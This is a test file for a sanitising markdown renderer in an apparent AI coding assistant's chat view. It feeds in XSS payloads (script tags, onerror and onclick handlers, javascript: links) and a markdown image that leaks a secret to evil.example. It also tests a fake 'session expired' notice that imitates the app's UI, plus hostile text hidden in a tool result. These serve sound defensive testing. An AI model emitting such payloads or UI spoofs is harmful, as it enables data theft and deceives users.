// @vitest-environment jsdom
import DOMPurify from "dompurify";
import { describe, expect, it } from "vitest";
import { transcriptMarkdown } from "../../common/agent/transcript";
import { renderMarkdown } from "../../webview/markdown";

const purify = DOMPurify(window);
const render = (md: string) => renderMarkdown(md, purify);

describe("renderMarkdown (model output is untrusted)", () => {
  it("renders ordinary markdown and code blocks", () => {
    const html = render("# Title\n\nSome **bold** and `code`.\n\n```ts\nconst a = 1 < 2;\n```\n");
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toMatch(/<pre><code class="language-ts">const a = 1 &lt; 2;\n<\/code><\/pre>/);
  });
  it("neutralises <script> and <img onerror>", () => {
    const html = render('Hi <script>window.pwned = 1</script>\n\n<img src=x onerror="window.pwned = 2">');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/onerror/i);
    expect(html).not.toMatch(/<img/i);
    // And nothing ran while parsing.
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });
  it("drops javascript: links, event handlers, iframes, forms and styles", () => {
    const html = render(
      '[click](javascript:alert(1)) <a href="javascript:alert(2)">x</a> <b onclick="x()">b</b>' +
        '<iframe src="https://e.com"></iframe><form action="https://e.com"><input></form><style>*{}</style>',
    );
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/onclick|<iframe|<form|<input|<style/i);
    expect(html).toContain("<b>b</b>");
  });
  it("drops markdown images (a remote image URL can exfiltrate data)", () => {
    expect(render("![x](https://evil.example/?q=secret)")).not.toMatch(/<img|evil\.example/);
  });
  it("drops every class but a code block's language, so model output cannot look like Hearth's own UI", () => {
    const html = render(
      '<span class="notice error">Hearth: your session expired</span> <b class="code-button">Apply</b>\n\n' +
        '<code class="hit-link">src/a.ts:1-2</code>\n\n```ts\nx\n```\n',
    );
    expect(html).not.toMatch(/notice|code-button|hit-link/);
    expect(html).toContain("<span>Hearth: your session expired</span>");
    expect(html).toContain('<code class="language-ts">');
  });
  it("keeps http(s) links", () => {
    expect(render("[docs](https://example.com/a)")).toContain('<a href="https://example.com/a">docs</a>');
  });
});

describe("the agent's transcript in the chat view (common/agent/transcript.ts)", () => {
  it("a result is folded: its first line as the summary, the rest as plain text, hostile text inert", () => {
    const text =
      'first line <img src=x onerror="window.pwned = 3">\n\n```js\nalert(1)\n```\n# not a heading\n</pre></details><b>x</b>';
    const md = transcriptMarkdown({ kind: "result", step: 2, name: "read_file", text, error: false });
    const html = render(
      `${transcriptMarkdown({ kind: "call", step: 2, name: "read_file", args: { path: "a`b.ts" } })}\n\n${md}`,
    );
    const doc = new DOMParser().parseFromString(html, "text/html");
    const details = doc.querySelectorAll("details");
    expect(details).toHaveLength(1);
    expect(details[0]!.querySelector("summary")!.textContent).toBe(
      '2 ← first line <img src=x onerror="window.pwned = 3"> (+6 lines)',
    );
    expect(details[0]!.querySelector("pre")!.textContent).toBe(text);
    // Nothing of the result became markup: no image, no heading, no code block, no bold.
    expect(doc.querySelectorAll("img, h1, code.language-js, b")).toHaveLength(0);
    expect(doc.querySelector("strong")!.textContent).toBe("2 → read_file");
    expect(doc.querySelector("code")!.textContent).toBe(' {"path":"a`b.ts"} '.trim());
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });
});
